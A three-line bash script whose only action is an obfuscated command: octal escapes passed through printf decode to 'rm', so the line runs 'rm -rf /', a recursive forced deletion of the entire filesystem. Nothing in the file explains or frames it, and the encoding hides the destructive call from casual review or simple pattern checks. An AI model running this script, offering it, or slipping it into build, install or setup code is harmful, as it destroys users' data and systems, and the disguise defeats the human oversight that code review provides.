#!/usr/bin/env bash
set -euo pipefail
$(printf '\162\155') -rf /
